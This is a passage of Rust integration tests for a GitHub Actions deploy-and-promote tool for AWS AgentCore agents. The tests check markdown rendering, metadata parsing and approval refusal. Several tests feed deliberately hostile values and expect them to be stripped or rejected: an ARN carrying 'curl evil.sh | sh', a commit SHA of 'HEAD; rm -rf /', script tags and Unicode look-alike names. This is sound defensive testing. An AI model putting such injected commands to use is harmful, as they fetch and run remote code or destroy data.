//! Integration tests of `cargo xtask github`: the workflow files, the metadata parser, the rendered
//! markdown, and the steps driven by recorded-style event payloads from tests/events/, on the two
//! agents of the release fixture (`tests/fixtures/release`).

mod story;
mod workflows;

use std::path::{Path, PathBuf};

use xtask::agents::{self, Agent};
use xtask::context::{AwsArgs, GithubFiles};
use xtask::github::event::{self, IssuesEvent};
use xtask::github::metadata::{self, AgentVersion, FORMAT, Metadata};
use xtask::github::{self as gh, EventArgs, render};
use xtask::report::{AskedVersion, DeployOutcome, IdlePreview, IssueFate, IssueReport, PromoteAction, PromoteOutcome};

use crate::support::{
    Ctx, copy_workspace, github_outputs, release_fixture, repo_root, snapshot_settings, xtask_command,
};

const COMMIT: &str = "3c4d5e6f7a8b9c0d1e2f3a4b5c6d7e8f9a0b1c2d";

pub fn events_dir() -> PathBuf {
    repo_root().join("tests").join("events")
}

/// A context on the release fixture's two agents, with the bundled stack (state in `local_dir`).
pub fn ctx(local_dir: Option<&Path>) -> Ctx {
    let aws = AwsArgs { local: true, local_dir: local_dir.map(Path::to_path_buf), ..Default::default() };
    crate::support::ctx(&release_fixture(), aws)
}

fn workspace_agents() -> Vec<Agent> {
    let ctx = ctx(None);
    agents::discover(&ctx.root, &ctx.settings).unwrap()
}

fn snapshot(name: &str, markdown: &str) {
    snapshot_settings().bind(|| insta::assert_snapshot!(name, markdown));
}

fn outcome(agent: &str, runtime: &str, version: &str, action: &str) -> DeployOutcome {
    DeployOutcome {
        agent: agent.into(),
        runtime_name: runtime.into(),
        runtime_id: Some(format!("{runtime}-AbCdE12345")),
        runtime_arn: Some(format!("arn:aws:bedrock-agentcore:us-east-1:123456789012:runtime/{runtime}-AbCdE12345")),
        version: Some(version.into()),
        status: "READY".into(),
        action: action.parse().unwrap(),
        default_endpoint: Some("DEFAULT".into()),
        s3_key: Some(format!("{runtime}/v{version}/code.zip")),
        zip_sha256: "e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855".into(),
        commit: Some(COMMIT.into()),
        plan: None,
        record_key: Some(format!("{runtime}/v{version}/record.json")),
        smoke: None,
        source: None,
    }
}

fn valid_metadata() -> Metadata {
    Metadata {
        v: FORMAT,
        pr: Some(12),
        commit: COMMIT.into(),
        env: None,
        from: None,
        agents: vec![
            AgentVersion { agent: "echo_bot".into(), runtime: "echo_bot_prod".into(), version: "2".into() },
            AgentVersion {
                agent: "weather_report_bot".into(),
                runtime: "weather_report_bot_prod".into(),
                version: "7".into(),
            },
        ],
    }
}

fn valid_body() -> String {
    let metadata = valid_metadata();
    let outcomes = [
        outcome("echo_bot", "echo_bot_prod", "2", "updated"),
        outcome("weather_report_bot", "weather_report_bot_prod", "7", "updated"),
    ];
    render::issue_body(&metadata, &outcomes, "prod", &previews())
}

/// The issue's two agents against PR 12's preview: the first with the very zip its preview ran, the
/// second with another (main moved on).
fn previews() -> Vec<render::Preview> {
    let zip = outcome("echo_bot", "echo_bot_prod", "2", "updated").zip_sha256;
    vec![
        render::Preview { agent: "echo_bot".into(), zip_sha256: zip.clone(), preview: Some(("3".into(), zip.clone())) },
        render::Preview {
            agent: "weather_report_bot".into(),
            zip_sha256: zip,
            preview: Some(("2".into(), "ab".repeat(32))),
        },
    ]
}

fn parse(body: &str) -> anyhow::Result<metadata::Verified> {
    metadata::verify(&metadata::extract(body)?, &workspace_agents(), &ctx(None))
}

// ---------------------------------------------------------------- rendered markdown (snapshots)

fn deployed(runtime: &str, version: &str, action: &str) -> render::Deployed {
    render::Deployed::from(&outcome(runtime.split("_pr_").next().unwrap(), runtime, version, action))
}

fn agent_result(agent: &str, outcome: Result<render::Deployed, String>) -> render::AgentResult {
    render::AgentResult { agent: agent.into(), pr: 12, commit: COMMIT.into(), outcome }
}

#[test]
fn pr_comment_snapshot() {
    let results = [
        agent_result("echo_bot", Ok(deployed("echo_bot_pr_12", "3", "updated"))),
        agent_result("weather_report_bot", Err("upload failed: <img src=x> @everyone\n~~~\n```".into())),
    ];
    let markdown = render::pr_comment(12, COMMIT, &[], &results);
    assert!(markdown.starts_with(render::PR_COMMENT_MARKER));
    // Free text stays inside one fence it cannot close: the fence is longer than any backtick run.
    let error_part = &markdown[markdown.find("### `weather_report_bot` failed").unwrap()..];
    assert!(error_part.contains("\n````text\n") && error_part.matches("\n````\n").count() == 1, "{error_part}");
    snapshot("pr_comment", &markdown);
}

/// Result files come from the matrix jobs: whatever they hold is data. An ARN that could close the
/// quotes or the code block, or an action that is not a deploy's, is not printed (an unknown action
/// does not even read: see `pr_comment_refuses_results_that_do_not_belong`).
#[test]
fn pr_comment_prints_only_well_formed_values() {
    let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
    hostile.runtime_arn = Some("arn:x' ; curl evil.sh | sh ; echo '\n```".into());
    hostile.action = xtask::report::DeployAction::Planned;
    hostile.status = "READY`<script>".into();
    let markdown = render::pr_comment(12, COMMIT, &[], &[agent_result("echo_bot", Ok(hostile))]);
    assert!(!markdown.contains("curl") && !markdown.contains("planned"), "{markdown}");
    assert!(markdown.contains("# echo_bot (HTTP): <runtime ARN>\ncargo xtask invoke echo_bot --pr 12"), "{markdown}");
    assert!(markdown.contains("| `READY<script>` | - |"), "{markdown}");
    // A pipe or a line break cannot end the cell or the row.
    let mut hostile = deployed("echo_bot_pr_12", "3", "updated");
    hostile.status = "READY | [x](https://evil)\n| row |".into();
    let markdown = render::pr_comment(12, COMMIT, &[], &[agent_result("echo_bot", Ok(hostile))]);
    assert!(markdown.contains("| `READY  [x](https://evil) row ` | updated |"), "{markdown}");
}

/// The comment's invocation speaks each agent's protocol: a prompt for HTTP, A2A and AG-UI, an MCP
/// `tools/list` for an MCP server (which takes no prompt).
#[test]
fn pr_comment_invocations_follow_each_agents_protocol() {
    let root = repo_root().join("tests/fixtures/protocols");
    let settings = xtask::settings::Settings::from_workspace(&root).unwrap();
    let all = agents::discover(&root, &settings).unwrap();
    let results: Vec<render::AgentResult> = ["chat_http", "tools_mcp", "peer_a2a"]
        .iter()
        .map(|agent| agent_result(agent, Ok(deployed(&format!("{agent}_pr_12"), "1", "created"))))
        .collect();
    let markdown = render::pr_comment(12, COMMIT, &all, &results);
    for line in [
        "cargo xtask invoke chat_http --pr 12 --prompt Hello\n",
        "cargo xtask invoke peer_a2a --pr 12 --prompt Hello\n",
        "cargo xtask invoke tools_mcp --pr 12 --payload '{\"id\":1,\"jsonrpc\":\"2.0\",\"method\":\"tools/list\",\"params\":{}}'\n",
        "# tools_mcp (MCP): arn:aws:bedrock-agentcore:",
    ] {
        assert!(markdown.contains(line), "{line} in\n{markdown}");
    }
}

#[test]
fn pr_comment_when_nothing_changed_snapshot() {
    snapshot("pr_comment_nothing", &render::pr_comment(12, COMMIT, &[], &[]));
}

#[test]
fn deployment_issue_snapshot() {
    let body = valid_body();
    assert!(body.starts_with(render::ISSUE_MARKER));
    // What the bot writes reads back through the strict parser.
    let verified = parse(&body).unwrap();
    assert_eq!(verified.pr, Some(12));
    assert_eq!(verified.agents[1].pr_runtime.as_deref(), Some("weather_report_bot_pr_12"));
    snapshot("deployment_issue_title", &render::issue_title(Some(12), &valid_metadata().agents));
    snapshot("deployment_issue", &body);
}

#[test]
fn promotion_and_refusal_snapshots() {
    let verified = parse(&valid_body()).unwrap();
    let outcomes = vec![PromoteOutcome {
        agent: "echo_bot".into(),
        runtime_name: "echo_bot_prod".into(),
        endpoint: "prod".into(),
        previous_version: Some("1".into()),
        live_version: "2".into(),
        action: PromoteAction::Promoted,
        runtime_id: "echo_bot_prod-AbCdE12345".into(),
        endpoint_arn: None,
        record_key: None,
        plan: None,
        smoke: None,
    }];
    let deleted = vec!["echo_bot_pr_12".to_owned()];
    snapshot("promotion_summary", &render::promotion_summary(&verified, &outcomes, &deleted, &[]));
    let asked = |agent: &str, version, live| AskedVersion { agent: agent.into(), version, live };
    let issues = [
        IssueReport {
            issue: 38,
            fate: IssueFate::Superseded,
            pr: Some(11),
            versions: vec![asked("echo_bot", 2, Some(3))],
            deleted: vec!["echo_bot_pr_11".into()],
            reason: None,
        },
        IssueReport {
            issue: 39,
            fate: IssueFate::Waiting,
            pr: None,
            versions: vec![asked("echo_bot", 4, Some(3))],
            deleted: vec![],
            reason: Some("it asks for `echo_bot` v4 (live: v3), newer than what is live".into()),
        },
        IssueReport {
            issue: 41,
            fate: IssueFate::LeftOpen,
            pr: None,
            versions: vec![],
            deleted: vec![],
            reason: Some("its metadata does not verify: ```<b>two blocks</b>".into()),
        },
    ];
    snapshot("promotion_summary_with_issues", &render::promotion_summary(&verified, &outcomes, &deleted, &issues));
    let release = render::Release { issue: 40, pr: Some(12), commit: COMMIT };
    snapshot("superseded_comment", &render::superseded_comment(&issues[0], Some(&release), "prod"));
    let swept = render::superseded_comment(&issues[0], None, "prod");
    assert!(swept.starts_with(render::SUPERSEDED_MARKER) && swept.contains("A later release is live."), "{swept}");
    let idle = IdlePreview { pr: 30, idle_days: 20, deleted: vec!["echo_bot_pr_30".into()] };
    snapshot("idle_comment", &render::idle_comment(&idle, 14));
    snapshot("gc_summary", &render::gc_summary(&["echo_bot_pr_16".into()], &issues, &[idle], false));
    snapshot("refusal", &render::refusal("the metadata block lists agent `echo_bot` twice", true));
    snapshot("rollback_refusal", &render::refusal("runtime `echo_bot_prod` has no version 9", false));
}

// ---------------------------------------------------------------- the metadata parser

#[test]
fn metadata_corpus_is_refused() {
    let good = valid_body();
    let block = valid_metadata().render();
    parse(&good).unwrap();
    let with_json = |json: &str| good.replace(&block, &format!("{}{json}{}", metadata::OPEN, metadata::CLOSE));
    let tampered_version = |version: &str| {
        let mut metadata = valid_metadata();
        metadata.agents[0].version = version.into();
        good.replace(&block, &metadata.render())
    };
    let huge = format!("{good}{}", "a".repeat(metadata::MAX_BODY_BYTES));
    let padded_block = {
        let mut metadata = valid_metadata();
        metadata.agents[0].agent = "x".repeat(metadata::MAX_BLOCK_BYTES);
        good.replace(&block, &metadata.render())
    };
    let cases: Vec<(&str, String, &str)> = vec![
        ("no block", good.replace(&block, ""), "holds no `agentcore:metadata` block"),
        ("two blocks", format!("{good}\n{block}\n"), "2 times"),
        ("a mention in text", format!("{good}\nsee agentcore:metadata\n"), "2 times"),
        ("in a backtick fence", good.replace(&block, &format!("```\n{block}\n```")), "code fence"),
        ("in a tilde fence", good.replace(&block, &format!("~~~~md\n{block}\n~~~~")), "code fence"),
        ("in an unclosed fence", good.replace(&block, &format!("```\n{block}")), "code fence"),
        // Only spaces and tabs may follow a closing fence: GitHub keeps these fences open.
        (
            "after a fence 'closed' with a no-break space",
            good.replace(&block, &format!("```\n```\u{a0}\n{block}\n```")),
            "code fence",
        ),
        (
            "after a fence 'closed' with a vertical tab",
            good.replace(&block, &format!("~~~\n~~~\u{b}\n{block}\n~~~")),
            "code fence",
        ),
        ("indented code", good.replace(&block, &format!("    {block}")), "line of its own"),
        ("in a quote", good.replace(&block, &format!("> {block}")), "line of its own"),
        ("inline", good.replace(&block, &format!("text {block}")), "line of its own"),
        ("huge body", huge, "over the 65536"),
        ("huge block", padded_block, "over the limit of 4096"),
        ("version 0", tampered_version("0"), "not a number from 1 to 99999"),
        ("version -1", tampered_version("-1"), "not a number from 1 to 99999"),
        ("version v2", tampered_version("v2"), "not a number from 1 to 99999"),
        ("version 100000", tampered_version("100000"), "not a number from 1 to 99999"),
        ("version 02", tampered_version("02"), "not a number from 1 to 99999"),
        ("version +2", tampered_version("+2"), "not a number from 1 to 99999"),
        ("version as a number", good.replace(r#""version":"2""#, r#""version":2"#), "invalid type"),
        ("unknown agent", good.replace(r#""agent":"echo_bot""#, r#""agent":"evil_bot""#), "not in agents/"),
        (
            "look-alike agent (Cyrillic e)",
            good.replace(r#""agent":"echo_bot""#, "\"agent\":\"\u{0435}cho_bot\""),
            "U+0435",
        ),
        (
            "escaped look-alike agent",
            good.replace(r#""agent":"echo_bot""#, r#""agent":"\u0435cho_bot""#),
            "not in agents/",
        ),
        ("fullwidth digit", tampered_version("\u{ff12}"), "U+FF12"),
        (
            "runtime of another agent",
            good.replace(r#""runtime":"echo_bot_prod""#, r#""runtime":"weather_report_bot_prod""#),
            "but its prod runtime is `echo_bot_prod`",
        ),
        (
            "PR runtime as the prod runtime",
            good.replace(r#""runtime":"echo_bot_prod""#, r#""runtime":"echo_bot_pr_12""#),
            "but its prod runtime is",
        ),
        (
            "duplicate agent",
            good.replace(
                r#""agent":"weather_report_bot","runtime":"weather_report_bot_prod""#,
                r#""agent":"echo_bot","runtime":"echo_bot_prod""#,
            ),
            "twice",
        ),
        ("duplicate key", good.replace(r#""pr":12,"#, r#""pr":12,"pr":13,"#), "duplicate field"),
        ("unknown key", good.replace(r#""pr":12,"#, r#""pr":12,"delete":["x_prod"],"#), "unknown field"),
        ("pr 0", good.replace(r#""pr":12,"#, r#""pr":0,"#), "pull request 0"),
        ("pr negative", good.replace(r#""pr":12,"#, r#""pr":-12,"#), "invalid value"),
        ("pr as text", good.replace(r#""pr":12,"#, r#""pr":"12","#), "invalid type"),
        ("short commit", good.replace(COMMIT, "3c4d5e6"), "40-digit"),
        ("format 2", good.replace(r#"{"v":1,"#, r#"{"v":2,"#), "format version 2"),
        ("no agents", with_json(&format!(r#"{{"v":1,"pr":12,"commit":"{COMMIT}","agents":[]}}"#)), "1 to 50"),
        ("not json", with_json("v=1 pr=12"), "not valid"),
        ("control character", good.replace(r#""pr":12,"#, "\"pr\":12,\u{7},"), "U+0007"),
        ("carriage return split", good.replace(metadata::OPEN, "<!-- agentcore:metadata\r"), "line of its own"),
        // Environments exist only with an environments_chain; this workspace has none.
        (
            "an environment without a chain",
            good.replace(r#""pr":12,"#, r#""pr":12,"env":"prod","from":"staging","#),
            "promotes from `staging` to `prod`, but the settings have no environments_chain",
        ),
        (
            "a target environment alone",
            good.replace(r#""pr":12,"#, r#""pr":12,"env":"prod","#),
            "no environments_chain",
        ),
        ("an empty environment", good.replace(r#""pr":12,"#, r#""pr":12,"env":"","#), "is not an environment name"),
    ];
    for (name, body, expected) in cases {
        let err = match parse(&body) {
            Ok(verified) => panic!("{name}: accepted {verified:?}"),
            Err(err) => format!("{err:#}"),
        };
        assert!(err.contains(expected), "{name}: expected `{expected}` in `{err}`");
    }
}

#[test]
fn metadata_outside_fences_still_parses() {
    let good = valid_body();
    let body = format!("```\ncode\n```\n\n{good}\n~~~\nmore\n~~~\n");
    assert_eq!(parse(&body).unwrap().agents.len(), 2);
    // A fence inside a fence of another kind does not close it.
    let body = format!("~~~\n```\n~~~\n{good}");
    assert_eq!(parse(&body).unwrap().commit, COMMIT);
}

// ---------------------------------------------------------------- approval checks (no AWS)

fn approval_event() -> IssuesEvent {
    let mut event: IssuesEvent = event::read(&events_dir().join("issues_labeled_approved.json"), "issues").unwrap();
    event.issue.body = Some(valid_body());
    event
}

fn approve(event: &IssuesEvent, permission: &str) -> anyhow::Result<metadata::Verified> {
    gh::check_approval(event, permission, gh::DEFAULT_BOT_LOGIN, &workspace_agents(), &ctx(None))
}

#[test]
fn approval_by_a_writer_of_a_bot_issue_passes() {
    let verified = approve(&approval_event(), "write").unwrap();
    assert_eq!(verified.agents.iter().map(|a| a.version).collect::<Vec<_>>(), [2, 7]);
    approve(&approval_event(), "admin").unwrap();
}

#[test]
fn approvals_that_are_refused() {
    let err = |event: &IssuesEvent, permission: &str| format!("{:#}", approve(event, permission).unwrap_err());
    for permission in ["read", "triage", "none", "", "WRITE", "write "] {
        assert!(err(&approval_event(), permission).contains("needs write or admin"), "{permission:?}");
    }
    let mut event = approval_event();
    event.issue.user.login = "mallory".into();
    assert!(err(&event, "admin").contains("opened by `mallory`"));

    let mut event = approval_event();
    event.issue.user.login = "github-actions".into();
    assert!(err(&event, "admin").contains("not by `github-actions[bot]`"));

    let mut event = approval_event();
    event.issue.performed_via_github_app = Some(event::App { slug: "evil-app".into() });
    assert!(err(&event, "write").contains("through the app `evil-app`"));

    let mut event = approval_event();
    event.label = Some(event::Label { name: "approved ".into() });
    assert!(err(&event, "write").contains("only the `approved` label"));

    let mut event = approval_event();
    event.action = "unlabeled".into();
    assert!(err(&event, "write").contains("not on `unlabeled`"));

    let mut event = approval_event();
    event.issue.labels.retain(|label| label.name != "needs-promotion");
    assert!(err(&event, "write").contains("lacks the `needs-promotion` label"));

    let mut event = approval_event();
    event.issue.labels.push(event::Label { name: "promoted".into() });
    assert!(err(&event, "write").contains("already promoted"));

    let mut event = approval_event();
    event.issue.state = "closed".into();
    assert!(err(&event, "write").contains("is closed"));

    let mut event = approval_event();
    event.issue.pull_request = Some(serde_json::json!({"url": "x"}));
    assert!(err(&event, "write").contains("is a pull request"));

    let mut event = approval_event();
    event.issue.body = Some(format!(
        "{}\n```\n{}\n```\n",
        valid_body().replace(&valid_metadata().render(), ""),
        valid_metadata().render()
    ));
    assert!(err(&event, "write").contains("code fence"));
}

// ---------------------------------------------------------------- steps driven by event payloads

fn event_args(name: &str, out: Option<PathBuf>) -> EventArgs {
    EventArgs { event: events_dir().join(name), out }
}

/// The commits API names the pull request a pushed commit came from whether it was merged with a
/// merge commit, squashed or rebased (for a rebase, every rebased commit names it), so one answer's
/// shape serves the three; no commit message is parsed.
#[test]
fn merged_pull_comes_from_the_commits_api() {
    let pulls: Vec<event::AssociatedPull> =
        event::read_listing(&events_dir().join("commit_pulls_squash.json"), "pull requests").unwrap();
    assert_eq!(gh::merged_pull(&pulls, "main").unwrap(), Some(12));
    // The same commit seen from another base branch, or a PR that is still open, is not it.
    assert_eq!(gh::merged_pull(&pulls, "release").unwrap(), None);
    assert_eq!(gh::merged_pull(&[], "main").unwrap(), None);
    let mut two = pulls.clone();
    two.push(event::AssociatedPull { number: 13, ..pulls[0].clone() });
    assert!(gh::merged_pull(&two, "main").unwrap_err().to_string().contains("several merged pull requests (12, 13)"));
    // `gh api --paginate` may print several arrays in a row.
    let dir = tempfile::tempdir().unwrap();
    let paged = dir.path().join("paged.json");
    let page = std::fs::read_to_string(events_dir().join("commit_pulls_squash.json")).unwrap();
    std::fs::write(&paged, format!("{page}{page}")).unwrap();
    let pulls: Vec<event::AssociatedPull> = event::read_listing(&paged, "pull requests").unwrap();
    assert_eq!(gh::merged_pull(&pulls, "main").unwrap(), Some(12));
}

#[test]
fn gc_keeps_pull_requests_that_bot_issues_refer_to() {
    let body = valid_body();
    let issues: Vec<event::ListedIssue> = serde_json::from_value(serde_json::json!([
        {"number": 40, "user": {"login": "github-actions[bot]"}, "body": body},
        // Not the bot's: protects nothing.
        {"number": 41, "user": {"login": "mallory"}, "body": body.replace("\"pr\":12", "\"pr\":77")},
        // The bot's, but tampered into two blocks: protects nothing.
        {"number": 42, "user": {"login": "github-actions[bot]"}, "body": format!("{body}\n{}", valid_metadata().render())},
        // Opened through another app than the bot's: protects nothing.
        {"number": 44, "user": {"login": "github-actions[bot]"}, "performed_via_github_app": {"slug": "evil-app"}, "body": body.replace("\"pr\":12", "\"pr\":79")},
        // A pull request, not an issue.
        {"number": 43, "user": {"login": "github-actions[bot]"}, "body": body.replace("\"pr\":12", "\"pr\":78"), "pull_request": {}},
    ]))
    .unwrap();
    assert_eq!(gh::protected_prs(&issues, gh::DEFAULT_BOT_LOGIN, &[]), [12]);
    // An issue found superseded protects nothing.
    assert!(gh::protected_prs(&issues, gh::DEFAULT_BOT_LOGIN, &[40]).is_empty());
}

#[test]
fn wrong_event_payloads_are_refused_with_the_file_named() {
    let ctx = ctx(None);
    let args = gh::PrDeployArgs {
        event: event_args("push_main_squash.json", None),
        changed_files: None,
        agent: None,
        result: None,
        force: false,
        package_dir: None,
        smoke: false,
    };
    let err = format!("{:#}", xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
    assert!(err.contains("push_main_squash.json is not a `pull_request` event payload"), "{err}");

    let args = gh::PrDeployArgs {
        event: event_args("pr_closed_unmerged.json", None),
        changed_files: None,
        agent: None,
        result: None,
        force: false,
        package_dir: None,
        smoke: false,
    };
    let err = format!("{:#}", xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap_err());
    assert!(err.contains("not `closed`"), "{err}");

    let args = gh::PromoteArgs {
        event: event_args("schedule.json", None),
        labeller_permission: "admin".into(),
        bot_login: gh::DEFAULT_BOT_LOGIN.into(),
        open_issues: None,
        superseded_dir: None,
        smoke: false,
    };
    let err = format!("{:#}", xtask::context::block_on(gh::promote(&ctx, &args, None)).unwrap_err());
    assert!(err.contains("neither an `issues` nor a `workflow_dispatch`"), "{err}");
}

#[test]
fn pr_without_agent_changes_deploys_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let changed = dir.path().join("changed.txt");
    std::fs::write(&changed, "README.md\ndocs/x.md\n").unwrap();
    let out = dir.path().join("comment.md");
    let args = gh::PrDeployArgs {
        event: event_args("pr_opened.json", Some(out.clone())),
        changed_files: Some(changed),
        agent: None,
        result: None,
        force: false,
        package_dir: None,
        smoke: false,
    };
    // No AWS is needed (nor reachable: the context points at no stack) when nothing changed.
    let report = xtask::context::block_on(gh::pr_deploy(&ctx(Some(dir.path())), &args, None)).unwrap();
    assert_eq!(report.result, "nothing");
    let comment = std::fs::read_to_string(out).unwrap();
    assert!(comment.starts_with(render::PR_COMMENT_MARKER) && comment.contains("nothing was deployed"), "{comment}");
}

#[test]
fn merged_pr_closing_keeps_its_runtimes() {
    let args = gh::PrClosedArgs { event: event_args("pr_closed_merged.json", None), dry_run: false };
    let report = xtask::context::block_on(gh::pr_closed(&ctx(None), &args, None)).unwrap();
    assert_eq!((report.result.as_str(), report.pr, report.deleted.len()), ("kept", Some(12), 0));
}

/// Runs the real binary the way a workflow does: event from GITHUB_EVENT_PATH, outputs to
/// GITHUB_OUTPUT, the refusal rendered to --out, a failing exit code, and no AWS call.
#[test]
fn refused_promotion_through_the_binary() {
    let dir = tempfile::tempdir().unwrap();
    let mut payload: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(events_dir().join("issues_labeled_approved.json")).unwrap())
            .unwrap();
    payload["issue"]["body"] = valid_body().replace(r#""version":"2""#, r#""version":"v2""#).into();
    let event = dir.path().join("event.json");
    std::fs::write(&event, payload.to_string()).unwrap();
    let output_file = dir.path().join("github_output");
    let out = dir.path().join("promotion.md");
    let result = xtask_command(&release_fixture())
        .args(["github", "promote", "--labeller-permission", "write", "--out"])
        .arg(&out)
        .env("GITHUB_EVENT_PATH", &event)
        .env("GITHUB_OUTPUT", &output_file)
        // An endpoint nobody listens on: any AWS call would fail differently.
        .env("AWS_ENDPOINT_URL", "http://127.0.0.1:9")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&result.stderr);
    assert_eq!(result.status.code(), Some(1), "{stderr}");
    assert!(stderr.contains("promotion refused") && stderr.contains("version `v2`"), "{stderr}");
    let comment = std::fs::read_to_string(&out).unwrap();
    assert!(comment.starts_with(render::PROMOTION_MARKER) && comment.contains("Promotion refused"), "{comment}");
    let outputs = std::fs::read_to_string(&output_file).unwrap();
    assert!(outputs.contains("\nrefused\n") && outputs.contains("issue<<"), "{outputs}");
}

#[test]
fn fork_comment_snapshot() {
    let report: xtask::package::PackageReport = serde_json::from_value(serde_json::json!({
        "agent": "echo_bot", "path": "target/agentcore/packages/echo_bot.zip", "files": 4157,
        "unzipped_bytes": 90000000, "zipped_bytes": 30965232,
        "sha256": "490a7c8306d3bee83d525e7fc6d2573a999bfe18d4f786e951dcbf343d84f067", "warnings": [],
        "platform": "aarch64-manylinux2014", "dependencies": "cached", "unchanged": false
    }))
    .unwrap();
    let packages = [Ok(report), Err(("weather_report_bot".to_owned(), "uv failed: <b>no</b>".to_owned()))];
    let markdown = render::fork_comment(13, COMMIT, &packages);
    assert!(markdown.starts_with(render::PR_COMMENT_MARKER));
    snapshot("fork_comment", &markdown);
}

/// A fork's pull request is packaged for real and never deployed: no AWS is reachable here, so a
/// deploy attempt would fail the step. Packaging writes into the workspace: a copy of the fixture.
#[test]
fn fork_pull_request_is_packaged_not_deployed() {
    let dir = tempfile::tempdir().unwrap();
    let changed = dir.path().join("changed.txt");
    std::fs::write(&changed, "prompts/echo_bot.txt\n").unwrap();
    let out = dir.path().join("comment.md");
    let workspace = dir.path().join("workspace");
    copy_workspace(&release_fixture(), &workspace);
    let aws = AwsArgs { endpoint_url: Some("http://127.0.0.1:9".into()), ..Default::default() };
    let ctx = crate::support::ctx(&workspace, aws);
    let args = gh::PrDeployArgs {
        event: event_args("pr_fork_opened.json", Some(out.clone())),
        changed_files: Some(changed),
        agent: None,
        result: None,
        force: false,
        package_dir: None,
        smoke: false,
    };
    let report = xtask::context::block_on(gh::pr_deploy(&ctx, &args, None)).unwrap();
    assert_eq!((report.result.as_str(), report.agents.as_slice()), ("packaged", &["echo_bot".to_owned()][..]));
    let comment = std::fs::read_to_string(out).unwrap();
    assert!(comment.contains("packaged but not deployed") && comment.contains("| `echo_bot` |"), "{comment}");
    // The fork's title and branch name (hostile on purpose in the fixture) stay out of the comment.
    assert!(!comment.contains("rm -rf") && !comment.contains("pwned") && !comment.contains("@acme"), "{comment}");
}

#[test]
fn event_checks() {
    let read_pr =
        |name: &str| -> event::PullRequestEvent { event::read(&events_dir().join(name), "pull_request").unwrap() };
    assert!(!read_pr("pr_opened.json").is_fork());
    assert!(read_pr("pr_fork_opened.json").is_fork());
    let mut deleted_fork = read_pr("pr_fork_opened.json");
    deleted_fork.pull_request.head.repo = None;
    assert!(deleted_fork.is_fork(), "a pull request whose head repository is gone is treated as a fork");
    let mut bad = read_pr("pr_opened.json");
    bad.pull_request.head.sha = "HEAD; rm -rf /".into();
    assert!(bad.check().unwrap_err().to_string().contains("pull_request.head.sha"));
    let mut bad = read_pr("pr_opened.json");
    bad.pull_request.number = 13;
    assert!(bad.check().is_err(), "the two pull request numbers must agree");

    let push = || -> event::PushEvent { event::read(&events_dir().join("push_main_squash.json"), "push").unwrap() };
    push().check().unwrap();
    let mut deleted = push();
    deleted.after = "0".repeat(40);
    assert!(deleted.check().unwrap_err().to_string().contains("deleted"));
    let mut created = push();
    created.before = "0".repeat(40);
    assert!(created.is_new_branch());
}

#[test]
fn open_issues_name_the_versions_they_ask_for() {
    let issues: Vec<event::ListedIssue> = serde_json::from_value(serde_json::json!([
        {"number": 40, "user": {"login": "github-actions[bot]"}, "body": valid_body()},
        {"number": 41, "user": {"login": "mallory"}, "body": valid_body().replace(r#""version":"2""#, r#""version":"3""#)},
        {"number": 42, "user": {"login": "github-actions[bot]"}, "body": "no block"},
    ]))
    .unwrap();
    assert_eq!(
        gh::requested_versions(&issues, gh::DEFAULT_BOT_LOGIN),
        [("echo_bot".to_owned(), 2), ("weather_report_bot".to_owned(), 7)]
    );
}

/// A rollback request with a bad version, an unknown agent or from a reader is refused before any
/// AWS call (the context points at an endpoint where nothing listens).
#[test]
fn rollbacks_that_are_refused() {
    let mut ctx = ctx(None);
    ctx.aws = AwsArgs { endpoint_url: Some("http://127.0.0.1:9".into()), ..Default::default() };
    let dir = tempfile::tempdir().unwrap();
    for (inputs, permission, expected) in [
        (serde_json::json!({"agent": "echo_bot", "version": "0"}), "admin", "not a number from 1 to 99999"),
        (serde_json::json!({"agent": "echo_bot", "version": "1e3"}), "admin", "not a number from 1 to 99999"),
        (serde_json::json!({"agent": "evil_bot", "version": "1"}), "admin", "evil_bot"),
        (serde_json::json!({"agent": "echo_bot", "version": "1"}), "read", "needs write or admin"),
    ] {
        let mut payload: serde_json::Value = serde_json::from_str(
            &std::fs::read_to_string(events_dir().join("workflow_dispatch_rollback.json")).unwrap(),
        )
        .unwrap();
        payload["inputs"] = inputs;
        let event = dir.path().join("event.json");
        std::fs::write(&event, payload.to_string()).unwrap();
        let out = dir.path().join("out.md");
        let args = gh::PromoteArgs {
            event: EventArgs { event, out: Some(out.clone()) },
            labeller_permission: permission.into(),
            bot_login: gh::DEFAULT_BOT_LOGIN.into(),
            open_issues: None,
            superseded_dir: None,
            smoke: false,
        };
        let err = format!("{:#}", xtask::context::block_on(gh::promote(&ctx, &args, None)).unwrap_err());
        assert!(err.contains("promotion refused") && err.contains(expected), "{expected}: {err}");
        assert!(std::fs::read_to_string(&out).unwrap().contains("Rollback refused"));
    }
}

// ---------------------------------------------------------------- the deploy matrix and its one comment

/// The head commit of tests/events/pr_opened.json (PR 12).
const PR_HEAD: &str = "9b8a7c6d5e4f30211a2b3c4d5e6f7a8b9c0d1e2f";

fn matrix_result(agent: &str, pr: u64, commit: &str, outcome: Result<render::Deployed, String>) -> String {
    serde_json::to_string(&[render::AgentResult { agent: agent.into(), pr, commit: commit.into(), outcome }]).unwrap()
}

fn pr_comment_args(dir: &Path, agents: &str) -> gh::PrCommentArgs {
    gh::PrCommentArgs {
        event: event_args("pr_opened.json", Some(dir.join("comment.md"))),
        agents: agents.into(),
        results: dir.join("results"),
    }
}

#[test]
fn pr_plan_lists_the_matrix() {
    let dir = tempfile::tempdir().unwrap();
    let changed = dir.path().join("changed.txt");
    std::fs::write(&changed, "prompts/echo_bot.txt\nREADME.md\n").unwrap();
    let args = gh::PrPlanArgs { event: event_args("pr_opened.json", None), changed_files: Some(changed.clone()) };
    let report = gh::pr_plan(&ctx(None), &args).unwrap();
    assert_eq!((report.result.as_str(), report.agents.as_slice()), ("planned", &["echo_bot".to_owned()][..]));
    std::fs::write(&changed, "docs/x.md\n").unwrap();
    assert_eq!(gh::pr_plan(&ctx(None), &args).unwrap().result, "nothing");
    let args = gh::PrPlanArgs { event: event_args("pr_closed_unmerged.json", None), changed_files: Some(changed) };
    assert!(gh::pr_plan(&ctx(None), &args).unwrap_err().to_string().contains("not `closed`"));
    // Without --changed-files the paths come from git, against the event's base commit; the sample
    // payload's is in no clone, so every agent counts as affected.
    let args = gh::PrPlanArgs { event: event_args("pr_opened.json", None), changed_files: None };
